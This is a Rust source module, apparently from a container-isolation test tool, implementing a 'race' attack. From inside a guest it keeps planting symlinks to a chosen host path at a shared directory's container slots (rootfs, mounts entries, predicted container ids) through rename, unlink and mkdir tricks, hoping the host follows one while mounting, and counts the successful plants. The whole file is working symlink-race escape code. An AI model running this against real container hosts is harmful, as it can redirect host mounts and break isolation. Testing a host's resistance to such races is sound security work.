//! `race`: plants symlinks to a host path at the share's mount points while the host creates
//! containers, hoping the host follows one when it mounts a container's rootfs or binds.
//!
//! A *slot* is a name the host creates and then mounts on (or creates a directory under):
//! `<share>/<cid>`, `<share>/<cid>/rootfs`, `<share>/<cid>/mounts` and `<share>/<cid>/mounts/*`.
//! Every round, for every container directory listed and every predicted one, each slot gets
//! these attempts; an attempt is *planted* when a symlink to the target ends up at the slot:
//!
//! - rename over: a symlink made beside the slot, then renamed onto it;
//! - unlink then symlink: the slot removed (`unlink`, or `rmdir` for a directory), then a
//!   symlink made there;
//! - mkdir then symlink inside: a predicted container directory (or a missing `mounts/`) is
//!   made, then symlinks at `rootfs` and at every `mounts/` name seen so far in any container;
//! - for a predicted id, on alternate rounds, the container directory itself as a symlink.
//!
//! Plants inside a mounted rootfs or volume (the containers' own storage, writable by design)
//! are not attempted: the host never resolves paths there.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::io;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use super::{errno_name, PREFIX};

/// Names this tool makes for its own use (skipped when listing the share).
const OWN_PREFIX: &str = ".moat-attack-";
/// How many predicted ids each round attacks.
const PREDICT_AHEAD: u64 = 3;
/// How many planted slots the report names.
const REPORT_PLANTED: usize = 20;

/// What `race` attacks and for how long.
#[derive(Debug, Clone)]
pub struct RaceConfig {
    /// The share, as mounted in the guest.
    pub share: PathBuf,
    /// The host path the symlinks point to.
    pub target: PathBuf,
    /// The container id prefix the host uses (`PREFIX-0`, `PREFIX-1`, ...), if known.
    pub predict: Option<String>,
    /// How long to go on.
    pub duration: Duration,
    /// A file whose existence stops the race early.
    pub stop_file: Option<PathBuf>,
}

/// What the race did.
#[derive(Debug, Default)]
pub struct Tally {
    /// Plant attempts.
    pub attempts: u64,
    /// Attempts that left a symlink to the target at a slot.
    pub planted: u64,
    /// Failed attempts by errno.
    pub errors: BTreeMap<i32, u64>,
    /// Distinct share entries seen.
    pub seen: BTreeSet<String>,
    /// The first slots planted.
    pub planted_at: Vec<String>,
    /// Rounds run.
    pub rounds: u64,
}

impl Tally {
    /// Counts one attempt at `slot` with its result.
    fn record(&mut self, slot: &Path, r: io::Result<()>) {
        self.attempts += 1;
        match r {
            Ok(()) => {
                self.planted += 1;
                if self.planted_at.len() < REPORT_PLANTED {
                    self.planted_at.push(slot.display().to_string());
                }
            }
            Err(e) => {
                *self
                    .errors
                    .entry(e.raw_os_error().unwrap_or(0))
                    .or_default() += 1
            }
        }
    }

    /// Failed attempts that got EROFS.
    pub fn erofs(&self) -> u64 {
        self.errors.get(&libc::EROFS).copied().unwrap_or(0)
    }

    /// Failed attempts that got anything else.
    pub fn other(&self) -> u64 {
        self.errors.values().sum::<u64>() - self.erofs()
    }

    /// The details and the final line.
    pub fn report(&self) -> Vec<String> {
        let errors: Vec<String> = self
            .errors
            .iter()
            .map(|(e, n)| format!("{}={n}", errno_name(*e)))
            .collect();
        let seen: Vec<&str> = self.seen.iter().map(String::as_str).take(40).collect();
        vec![
            format!("race: errors {}", errors.join(" ")),
            format!("race: seen {}", seen.join(" ")),
            format!("race: planted at {}", self.planted_at.join(" ")),
            format!(
                "{PREFIX} race attempts={} planted={} erofs={} other={} seen={} rounds={}",
                self.attempts,
                self.planted,
                self.erofs(),
                self.other(),
                self.seen.len(),
                self.rounds
            ),
        ]
    }
}

/// The race's state between rounds.
struct Racer<'a> {
    cfg: &'a RaceConfig,
    tally: Tally,
    /// `mounts/` entry names seen in any container.
    learned: BTreeSet<OsString>,
    /// A counter for temporary names.
    serial: u64,
}

/// The line `race` prints when it starts: `race: started share=<dir> target=<path>`.
pub fn started(cfg: &RaceConfig) -> String {
    format!(
        "race: started share={} target={}",
        cfg.share.display(),
        cfg.target.display()
    )
}

/// Runs the race (at least one round) and returns its tally.
pub fn race(cfg: &RaceConfig) -> Tally {
    let start = Instant::now();
    let mut r = Racer {
        cfg,
        tally: Tally::default(),
        learned: BTreeSet::new(),
        serial: 0,
    };
    loop {
        r.round();
        r.tally.rounds += 1;
        let stop = cfg.stop_file.as_ref().is_some_and(|f| f.exists());
        if stop || start.elapsed() >= cfg.duration {
            return r.tally;
        }
        std::thread::yield_now();
    }
}

/// The entries of `dir`, sorted (own temporary names left out); empty when it cannot be read.
fn entries(dir: &Path) -> Vec<OsString> {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut names: Vec<OsString> = rd
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| !n.to_string_lossy().starts_with(OWN_PREFIX))
        .collect();
    names.sort();
    names
}

/// The ids after the highest `<prefix>-<n>` among `names` (`<prefix>-0..` when none).
pub fn predicted(prefix: &str, names: &[OsString]) -> Vec<String> {
    let highest = names
        .iter()
        .filter_map(|n| n.to_str()?.strip_prefix(prefix)?.strip_prefix('-'))
        .filter_map(|n| n.parse::<u64>().ok())
        .max();
    let first = highest.map_or(0, |n| n + 1);
    (first..first + PREDICT_AHEAD)
        .map(|n| format!("{prefix}-{n}"))
        .collect()
}

/// Removes `path` whatever it is (a directory with `rmdir`).
fn remove(path: &Path) -> io::Result<()> {
    match std::fs::symlink_metadata(path) {
        Ok(m) if m.is_dir() => std::fs::remove_dir(path),
        _ => std::fs::remove_file(path),
    }
}

impl Racer<'_> {
    /// One pass over the share and the predicted ids.
    fn round(&mut self) {
        let names = entries(&self.cfg.share);
        for n in &names {
            self.tally.seen.insert(n.to_string_lossy().into_owned());
        }
        for n in &names {
            self.attack_container(&self.cfg.share.join(n));
        }
        let Some(prefix) = self.cfg.predict.clone() else {
            return;
        };
        for id in predicted(&prefix, &names) {
            if !names.iter().any(|n| *n == *id) {
                self.attack_predicted(&self.cfg.share.join(&id));
            }
        }
    }

    /// A symlink to the target at `slot`.
    fn plant(&self, slot: &Path) -> io::Result<()> {
        symlink(&self.cfg.target, slot)
    }

    /// Rename over, then unlink and symlink, at `slot`.
    fn attack_slot(&mut self, slot: &Path) {
        self.serial += 1;
        let parent = slot.parent().unwrap_or(Path::new("/"));
        let tmp = parent.join(format!(
            "{OWN_PREFIX}{}-{}",
            std::process::id(),
            self.serial
        ));
        let renamed = self.plant(&tmp).and_then(|()| {
            std::fs::rename(&tmp, slot).inspect_err(|_| {
                let _ = std::fs::remove_file(&tmp);
            })
        });
        self.tally.record(slot, renamed);
        let replaced = match remove(slot) {
            Err(e) if e.kind() != io::ErrorKind::NotFound => Err(e),
            _ => self.plant(slot),
        };
        self.tally.record(slot, replaced);
    }

    /// The slots of an existing container directory `dir`.
    fn attack_container(&mut self, dir: &Path) {
        self.attack_slot(&dir.join("rootfs"));
        let mounts = dir.join("mounts");
        match std::fs::read_dir(&mounts) {
            Ok(_) => {
                for name in entries(&mounts) {
                    self.attack_slot(&mounts.join(&name));
                    self.learned.insert(name);
                }
            }
            Err(_) => self.fill_dir(&mounts, false),
        }
    }

    /// Makes directory `dir` (a container directory, or its `mounts/`) and plants inside it:
    /// `rootfs` and `mounts/` for a container directory, the learned names for `mounts/`.
    fn fill_dir(&mut self, dir: &Path, container: bool) {
        if let Err(e) = std::fs::create_dir(dir) {
            self.tally.record(dir, Err(e));
            return;
        }
        let names: Vec<OsString> = match container {
            true => vec!["rootfs".into()],
            false => self.learned.iter().cloned().collect(),
        };
        for n in names {
            let slot = dir.join(n);
            let r = self.plant(&slot);
            self.tally.record(&slot, r);
        }
        if container {
            self.fill_dir(&dir.join("mounts"), false);
        }
    }

    /// A container directory the host has not made yet: on even rounds a directory of
    /// symlinks, on odd rounds a symlink itself.
    fn attack_predicted(&mut self, dir: &Path) {
        if self.tally.rounds.is_multiple_of(2) {
            self.fill_dir(dir, true);
        } else {
            let r = self.plant(dir);
            self.tally.record(dir, r);
        }
    }
}
